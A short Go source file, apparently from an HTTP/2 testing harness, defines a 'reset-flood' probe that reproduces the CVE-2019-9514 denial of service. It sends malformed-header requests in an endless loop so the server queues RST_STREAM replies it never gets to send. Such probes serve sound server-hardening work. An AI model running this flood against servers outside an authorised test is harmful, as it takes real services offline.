package probe

// resetFlood reproduces CVE-2019-9514: requests the server must refuse with RST_STREAM, sent
// as fast as the connection takes them, never reading the RST_STREAMs, so a server that
// queues one per request grows its queue. Each request carries an uppercase field name,
// malformed in HTTP/2 (RFC 9113 §8.2.1), a stream error of type PROTOCOL_ERROR.
var resetFlood = Probe{
	Name: "reset-flood",
	CVE:  "CVE-2019-9514",
	flood: func(a *abuser) error {
		block := a.request("GET", pathSmall, "X-Wirelab-Uppercase", "1")
		for {
			if err := a.headers(a.newStream(), block, true, true); err != nil {
				return err
			}
		}
	},
}
